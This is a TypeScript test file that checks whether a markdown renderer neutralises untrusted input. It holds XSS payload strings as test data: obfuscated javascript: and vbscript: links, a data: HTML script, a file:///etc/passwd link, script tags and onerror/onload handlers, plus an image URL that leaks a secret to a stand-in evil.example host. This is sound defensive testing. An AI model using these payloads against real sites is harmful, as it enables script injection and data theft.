import { expect } from '@open-wc/testing';
import { createRenderer, renderAll, splitEvery } from './helpers.js';

const hrefs = (container: Element) => [...container.querySelectorAll('[href]')].map((a) => a.getAttribute('href'));

describe('markdown with untrusted input', () => {
  const dangerous = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    ' javascript:alert(1)',
    'jav&#x61;script:alert(1)',
    'jav&#97;script:alert(1)',
    'javascript&colon;alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    '//evil.example/x',
    '/relative/path',
    '#fragment',
  ];

  for (const destination of dangerous) {
    it(`renders [x](${destination}) as text, not a link`, () => {
      const container = renderAll(`[click](<${destination}>) and [click](${destination.replace(/ /g, '')})`);
      expect(hrefs(container)).to.deep.equal([]);
      expect(container.textContent).to.contain('click');
    });
  }

  it('does not link autolinks with other schemes', () => {
    const container = renderAll('<javascript:alert(1)> <data:text/html,x> <vbscript:x>');
    expect(hrefs(container)).to.deep.equal([]);
  });

  it('allows http, https and mailto', () => {
    const container = renderAll('[a](http://a.example) [b](https://b.example) [c](mailto:c@c.example)');
    expect(hrefs(container)).to.deep.equal(['http://a.example/', 'https://b.example/', 'mailto:c@c.example']);
  });

  it('never creates elements from HTML in the text', () => {
    const container = renderAll(
      '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<a href="javascript:x">y</a>\n\n' +
        '**<iframe src=x>** `<svg onload=x>`\n\n| <b>x</b> |\n| - |\n| <img src=y onerror=z> |',
    );
    expect(container.querySelector('script, img, iframe, svg, b, [onerror], [onload]')).to.equal(null);
    expect(container.textContent).to.contain('<img src=x onerror=alert(1)>');
  });

  it('does not load images from javascript:, data: or unlisted origins, even when listed badly', () => {
    const container = renderAll(
      '![a](javascript:alert(1)) ![b](data:image/png;base64,AAAA) ![c](https://evil.example/?leak=secret) ![d](http://img.example/x.png)',
      { allowedImageOrigins: ['https://img.example', 'javascript:alert(1)', 'not a url'] },
    );
    expect(container.querySelector('img')).to.equal(null);
    // The http: image is not from the https origin that was allowed.
    expect(hrefs(container)).to.deep.equal(['https://evil.example/?leak=secret', 'http://img.example/x.png']);
  });

  it('never requests an image while its URL is still streaming', () => {
    const text = 'look ![pic](https://img.example/secret?data=abc) done';
    const { container, renderer } = createRenderer({ allowedImageOrigins: ['https://img.example'] });
    for (const piece of splitEvery(text, 1)) {
      renderer.append(piece);
      renderer.flush();
      expect(container.querySelector('img'), renderer.text).to.equal(null);
    }
    renderer.finish();
    renderer.flush();
    expect(container.querySelector('img')!.getAttribute('src')).to.equal('https://img.example/secret?data=abc');
  });
});
